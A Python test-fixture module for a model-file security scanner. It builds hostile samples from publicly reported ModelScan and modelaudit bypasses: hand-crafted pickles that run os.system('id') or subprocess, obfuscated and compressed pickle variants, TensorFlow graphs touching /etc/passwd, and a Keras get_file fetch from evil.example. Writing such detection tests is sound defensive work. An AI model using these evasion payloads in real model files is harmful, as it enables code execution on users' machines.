"""Bypasses of ModelScan and modelaudit that were reported one by one, and the finding that each must give.

`REPORTED` has them by the report: numbers are issues and pull requests of the two projects. The files are our
own. `tools/scan/evidence.py` writes the table of docs/evidence/scan.md from these and from `hostile_cases`.
"""

from __future__ import annotations

import bz2
import io
import lzma
import pickle
import zlib
from pathlib import Path

from numpy.lib import format
from tests.recorded_models import graph
from tests.scan import hostile_files as make
from tests.scan.hostile_cases import CALL, HOSTILE, OS, Case
from tests.scan.hostile_files import (
    LAMBDA,
    SYSTEM,
    Maker,
    as_file,
    in_h5,
    in_keras,
    in_zip,
    layer,
    model_of,
    text_pickle,
    zipped,
)

from tfport.formats.proto.saved_model_pb2 import MetaGraphDef, SavedModel
from tfport.graph.build import graph_to_def

REFUSED = "refused"
"""In place of a finding: neither tfport nor TensorFlow reads the file, and the exit code says so."""
X = "x = Placeholder() {dtype=string, shape=()}\n"
NAME = 'f = Const() {dtype=string, value=string()["/etc/passwd"]}\n'
WRITTEN = X + NAME + "w = WriteFile(f, x)\ny = Identity(x, ^w) {T=string}"
PYTHON = X + 'y = PyFunc(x) {token="pyfunc_7", Tin=[string], Tout=[string]}'
EAGER = X + 'y = EagerPyFunc(x) {token="pyfunc_7", is_async=false, Tin=[string], Tout=[string]}'
CALLED = """
x = Placeholder() {dtype=string, shape=()}
y = StatefulPartitionedCall(x) {f=@outer, Tin=[string], Tout=[string]}

def outer(n: string) -> (r: string):
  c = StatefulPartitionedCall(n) {f=@inner, Tin=[string], Tout=[string]}
  return r=c

def inner(n: string) -> (r: string):
  BODY
  return r=c
"""
TABLE = """
t = HashTableV2() {key_dtype=string, value_dtype=int64}
w = InitializeTableFromTextFileV2(t, f) {key_index=-2, value_index=-1, vocab_size=-1}
y = Identity(x, ^w) {T=string}
"""
CONFIGURED = """
s = Const() {dtype=string, value=string()["https"]}
w = FileSystemSetConfiguration(s, f, x)
y = Identity(x, ^w) {T=string}
"""


def meta_graph(text: str) -> MetaGraphDef:
    """A graph with one signature, from `x` to `y`."""
    meta = MetaGraphDef(graph_def=graph_to_def(graph(text)))
    meta.meta_info_def.tags.append("serve")
    signature = meta.signature_def["serving_default"]
    signature.inputs["in"].name, signature.outputs["out"].name = "x:0", "y:0"
    signature.inputs["in"].dtype = signature.outputs["out"].dtype = 7
    return meta


def in_saved_model(text: str, more: bytes = b"") -> Maker:
    def make_it(folder: Path) -> Path:
        file = SavedModel(saved_model_schema_version=1, meta_graphs=[meta_graph(text)])
        return make.written(folder, "export/saved_model.pb", file.SerializeToString() + more).parent

    return make_it


def in_second_graph(text: str) -> Maker:
    """A SavedModel with a harmless graph, and another one with one tag more."""

    def make_it(folder: Path) -> Path:
        graphs = [meta_graph(X + "y = Identity(x) {T=string}"), meta_graph(text)]
        graphs[1].meta_info_def.tags.append("gpu")
        file = SavedModel(saved_model_schema_version=1, meta_graphs=graphs)
        return make.written(folder, "export/saved_model.pb", file.SerializeToString()).parent

    return make_it


def in_meta(text: str, more: bytes = b"") -> Maker:
    return lambda folder: make.written(folder, "model.ckpt.meta", meta_graph(text).SerializeToString() + more)


def called(body: str) -> str:
    return CALLED.replace("BODY", body)


def damaged_member_first() -> bytes:
    """A zip archive whose first member has no header where the directory says."""
    data = bytearray(zipped([("archive/version", b"3"), ("archive/data.pkl", SYSTEM)]))
    data[:4] = b"XXXX"
    return bytes(data)


def flagged() -> bytes:
    """A zip archive whose directory says that the pickle is encrypted; it is not."""
    data = bytearray(zipped([("archive/data.pkl", SYSTEM)]))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def renamed() -> bytes:
    data = zipped([("archive/data.pkl", SYSTEM)])
    return data.replace(b"archive/data.pkl", b"archive/data.txt", 1)


def object_array(descr: object, version: int = 1) -> bytes:
    """A NumPy array whose elements, or fields of them, are Python objects."""
    buffer = io.BytesIO()
    header = {"descr": descr, "fortran_order": False, "shape": (1,)}
    write = (format.write_array_header_1_0, format.write_array_header_2_0)[version - 1]
    write(buffer, header)
    return buffer.getvalue() + SYSTEM


def versioned(config: object, version: str) -> Maker:
    """A Keras file that says that a fixed release saved it."""
    return in_keras(config, **{"metadata.json": {"keras_version": version}})


def named(module: str, name: str) -> Case:
    return as_file("m.pkl", text_pickle(module, name)), "error TFP921"


def text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


GLOBAL = b"\x93"
SIZE = b"\x80\x04" + text("numpy") + text("size") + GLOBAL + b"\x94"
BUILTINS = text("numpy") + text("__builtins__") + GLOBAL + b"\x94"
REPLACED_SHAPE = SIZE + BUILTINS + b"h\x00}}" + text("shape") + b"h\x01s\x86b" + text("id") + b"\x85R."
RENAMED_GLOBALS = (
    b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
    b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vid\n\x85R."
)
IMPORTED = b"\x80\x04" + text("importlib") + text("import_module") + GLOBAL + text("os") + b"\x85R."
NO_MEMO = b"\x80\x04" + text("os") + text("system") + GLOBAL + text("id") + b"\x85R0h\x63h\x64\x93."
AS_BYTES = b"\x80\x04C\x02os" + text("system") + GLOBAL + text("id") + b"\x85R."
AS_NUMBER = b"\x80\x04cos\nsystem\n" + text("id") + b"\x85R0J*\0\0\0" + text("os") + GLOBAL + b"."
AS_ARRAY = b"\x80\x05" + text("os") + b"\x96\x06\0\0\0\0\0\0\0system" + GLOBAL + text("id") + b"\x85R."
CHAIN = (
    b"cbuiltins\nprint.__class__.__base__.__subclasses__\n)R0"
    b"cbuiltins\ngadget.__init__.__builtins__.__getitem__\n(S'eval'\ntR."
)
COMPRESSED = b"cbuiltins\nexec\n(czlib\ndecompress\n(S'x'\ntRtR."
EXTENSION = b"\x80\x02\x82\x01X\x02\x00\x00\x00id\x85R."
DAMAGED_TEXT = b"\x80\x04cos\nsystem\n" + text("id") + b"\x85R\x8c\x02\xff\xfe."
NEW_OBJECT = b"\x80\x04" + text("subprocess") + text("Popen") + GLOBAL + text("id") + b"\x85}\x92."
HARMLESS = pickle.dumps([1, 2])
GET_ARCHIVE = {
    "class_name": "function",
    "module": "keras.utils",
    "config": "get_file",
    "kwargs": {"origin": "https://evil.example/x.tar", "extract": True},
}
TWO_LAMBDAS = model_of(LAMBDA, {**LAMBDA, "config": {**LAMBDA["config"], "name": "second"}})
VOCABULARY = model_of(layer("StringLookup", {"vocabulary": "/etc/passwd"}))

REPORTED: dict[str, dict[str, Case]] = {
    "ModelScan 341": {
        "MatchingFiles": (in_saved_model(X + "y = MatchingFiles(x)"), "error TFP901"),
        "MatchingFiles of a fixed folder": (
            in_saved_model(X + NAME + "y = MatchingFiles(f)"),
            "error TFP901",
        ),
        "WholeFileReaderV2": (
            in_saved_model(X + "r = WholeFileReaderV2()\ny = Identity(x, ^r) {T=string}"),
            "warning TFP901",
        ),
        "a table from a file of the machine": (in_saved_model(X + NAME + TABLE), "warning TFP901"),
        "LMDBReader": (
            in_saved_model(X + "r = LMDBReader()\ny = Identity(x, ^r) {T=string}"),
            "warning TFP901",
        ),
        "PyFunc": (in_saved_model(PYTHON), "warning TFP905"),
        "PyFuncStateless": (in_saved_model(PYTHON.replace("PyFunc", "PyFuncStateless")), "warning TFP905"),
        "EagerPyFunc": (in_saved_model(EAGER), "warning TFP905"),
        "FileSystemSetConfiguration": (
            in_saved_model(X + NAME + CONFIGURED),
            "error TFP901 TFP902 TFP904 TFP906",
        ),
    },
    "ModelScan 64; modelaudit 329": {
        "ReadFile": (in_saved_model(X + NAME + "y = ReadFile(f)"), "error TFP901"),
        "WriteFile": (in_saved_model(WRITTEN), "error TFP902"),
    },
    "modelaudit 675, 677": {
        "ReadFile two functions deep": (in_saved_model(called("c = ReadFile(n)")), "error TFP901"),
        "WriteFile two functions deep": (
            in_saved_model(called("w = WriteFile(n, n)\n  c = Identity(n, ^w) {T=string}")),
            "error TFP902",
        ),
        "PyFunc two functions deep": (
            in_saved_model(called('c = PyFunc(n) {token="pyfunc_7", Tin=[string], Tout=[string]}')),
            "warning TFP905",
        ),
    },
    "variant of modelaudit 1491": {
        "WriteFile in a second MetaGraph": (in_second_graph(WRITTEN), "error TFP902"),
    },
    "modelaudit 897": {
        "an op that is in no TensorFlow": (in_saved_model(X + "y = LoadLibrary(x)"), "warning TFP907"),
    },
    "modelaudit 637": {"a MetaGraph that writes": (in_meta(WRITTEN), "error TFP902")},
    "modelaudit 1337": {
        "a MetaGraph with damage at its end": (in_meta(PYTHON, b"\xff"), REFUSED),
    },
    "modelaudit 1338": {
        "a SavedModel with damage at its end": (in_saved_model(PYTHON, b"\xff"), REFUSED),
    },
    "ModelScan 61": {"two lambdas": (in_h5(TWO_LAMBDAS), "error TFP911")},
    "modelaudit 599": {
        "a module whose name begins like `math`": (
            in_keras(model_of(layer("Dense", {"activation": {**OS, "module": "mathutils"}}))),
            "warning TFP913",
        ),
    },
    "modelaudit 935; CVE-2025-12060": {
        "get_file that unpacks an archive": (
            in_keras(model_of(layer("Dense", {"activation": GET_ARCHIVE}))),
            "error TFP914",
        ),
    },
    "modelaudit 1423, 1559": {
        "a vocabulary outside, saved by a fixed release": (versioned(VOCABULARY, "3.12.0"), "warning TFP915"),
        "a lambda, saved by a fixed release": (versioned(model_of(LAMBDA), "99.0"), "error TFP911"),
        "a pickle, saved by no release": (
            versioned(model_of(layer("TorchModuleWrapper", {"module": "gAR9lC4="})), "3.11.3.dev0"),
            "error TFP912",
        ),
    },
    "modelaudit 1434": {
        "a lambda whose function is of os": (
            in_h5(model_of(layer("Lambda", {"function": {"module": "os", "config": "system"}}))),
            "error TFP913",
        ),
    },
    "modelaudit 1558": {
        "a harmless registered name": (
            in_h5(model_of(layer("Lambda", {"function": {**CALL, "registered_name": "relu"}}))),
            "error TFP913",
        ),
    },
    "modelaudit 687": {
        "a custom layer in h5": (
            in_h5(model_of({**layer("Evil"), "registered_name": "Custom>Evil"})),
            "note TFP918",
        ),
        "a function as the loss in h5": (in_h5(make.MODEL, {"loss": CALL}), "error TFP913"),
    },
    "ModelScan 85": {
        "names that the pickle writes itself": (as_file("m.pkl", RENAMED_GLOBALS), "error TFP921")
    },
    "ModelScan 263 (GHSA-w8jq-xcqf-f792)": {
        "an archive that says it is encrypted": (as_file("model.pt", flagged()), "warning TFP929 TFP927"),
    },
    "ModelScan 263 (GHSA-7q5r-7gvp-wc82)": {
        "a pickle with two names": (as_file("model.pt", renamed()), "error TFP921"),
    },
    "ModelScan 263 (GHSA-769v-p64c-89pr)": {
        "a pickle with another suffix in a PyTorch archive": (
            in_zip("model.pt", [("archive/data.pkl", HARMLESS), ("archive/extra.dat", SYSTEM)]),
            "error TFP921",
        ),
    },
    "ModelScan 263 (GHSA-655q-fx9r-782v)": {
        "pip": named("pip", "main"),
    },
    "variant of ModelScan 263": {
        "numpy.testing": named("numpy.testing._private.utils", "runstring"),
    },
    "ModelScan 267": {"pickle.loads": named("pickle", "loads")},
    "ModelScan 330": {"builtins as a shape": (as_file("m.pkl", REPLACED_SHAPE), "error TFP921")},
    "ModelScan 331": {"importlib": (as_file("m.pkl", IMPORTED), "error TFP921")},
    "ModelScan 338": {
        "mlflow": named("mlflow.projects.backend.local", "_run_entry_point"),
        "pandas.read_csv": named("pandas.io.parsers.readers", "read_csv"),
        "urllib": named("urllib.request", "urlretrieve"),
        "a module as bytes": (as_file("m.pkl", AS_BYTES), "error TFP921"),
        "a number instead of a module": (as_file("m.pkl", AS_NUMBER), "error TFP921"),
        "a byte array instead of a name": (as_file("m.pkl", AS_ARRAY), "error TFP921"),
        "zlib.decompress": (as_file("m.pkl", COMPRESSED), "error TFP921"),
        "a chain of attributes of builtins": (as_file("m.pkl", CHAIN), "error TFP921"),
        "another model that is loaded": named(
            "transformers.models.auto.auto_factory", "getattribute_from_module"
        ),
    },
    "ModelScan 348 (GHSA-9gvj-pp9x-gcfr)": {
        "a memo that was never written": (as_file("m.pkl", NO_MEMO), "error TFP921"),
    },
    "ModelScan 345": {
        "joblib.gz": (as_file("m.joblib.gz", make.GZIPPED), "error TFP921"),
        "dill.bz2": (as_file("m.dill.bz2", bz2.compress(SYSTEM)), "error TFP921"),
        "pkl.lzma": (as_file("m.pkl.lzma", lzma.compress(SYSTEM, lzma.FORMAT_ALONE)), "error TFP921"),
        "pkl.z": (as_file("m.pkl.z", zlib.compress(SYSTEM)), "error TFP921"),
        "a NumPy array of objects": (as_file("w.npy", object_array("|O")), "error TFP921"),
    },
    "ModelScan 354": {
        "a damaged member before the pickle": (as_file("model.pt", damaged_member_first()), "error TFP921"),
    },
    "modelaudit, test of NumPy arrays": {
        "a field of objects": (as_file("w.npy", object_array([("a", "<f4"), ("b", "|O")])), "error TFP921"),
        "objects in version 2 of the format": (as_file("w.npy", object_array("|O", 2)), "error TFP921"),
    },
    "modelaudit 623": {"an extension of copyreg": (as_file("m.pkl", EXTENSION), "error TFP921")},
    "modelaudit 330, 582": {
        "a second pickle": (as_file("m.pkl", HARMLESS + SYSTEM), "error TFP921"),
        "a second pickle behind a byte": (as_file("m.pkl", HARMLESS + b"\0" + SYSTEM), "error TFP921"),
        "a second pickle behind damage": (as_file("m.pkl", b"\x80\x04\xff." + SYSTEM), "error TFP921"),
        "a second pickle in a keras file": (
            in_keras(**{"assets/x.bin": HARMLESS + SYSTEM}),
            "error TFP921",
        ),
    },
    "modelaudit, bypass_pocs of its tests": {
        "ctypes": named("ctypes", "CDLL"),
        "cProfile": named("cProfile", "run"),
        "pdb": named("pdb", "run"),
        "profile": named("profile", "run"),
        "_thread": named("_thread", "start_new_thread"),
        "linecache": named("linecache", "getlines"),
        "logging.config": named("logging.config", "listen"),
        "zipimport": named("zipimport", "zipimporter"),
    },
    "modelaudit, test of pickles": {
        "pkgutil": named("pkgutil", "resolve_name"),
        "uuid": named("uuid", "_get_command_stdout"),
        "smtplib": named("smtplib", "SMTP"),
        "sqlite3": named("sqlite3", "connect"),
        "tarfile": named("tarfile", "open"),
        "marshal": named("marshal", "loads"),
        "cloudpickle": named("cloudpickle.cloudpickle", "_make_function"),
        "joblib.load": named("joblib", "load"),
        "a class with keyword arguments": (as_file("m.pkl", NEW_OBJECT), "error TFP921"),
        "damaged text behind the call": (as_file("m.pkl", DAMAGED_TEXT), "error TFP921"),
    },
    "modelaudit, test of CVE-2025-10155": {
        "posix.system in .bin": (
            as_file("pytorch_model.bin", text_pickle("posix", "system")),
            "error TFP921",
        ),
        "nt.system in .bin": (as_file("pytorch_model.bin", text_pickle("nt", "system")), "error TFP921"),
    },
    "modelaudit 153": {
        "a pickle in a pickle": (
            as_file("m.pkl", pickle.dumps(make.Payload(pickle.loads, SYSTEM))),
            "error TFP921",
        ),
    },
    "modelaudit 942": {
        "gzip without a suffix in zip": (in_zip("m.zip", [("payload", make.GZIPPED)]), "error TFP921"),
        "gzip without a suffix in tar": (
            as_file("m.tar", make.in_tar([("payload", make.GZIPPED)])),
            "error TFP921",
        ),
    },
}

CASES: dict[str, Case] = {
    name: case for cases in (*HOSTILE.values(), *REPORTED.values()) for name, case in cases.items()
}
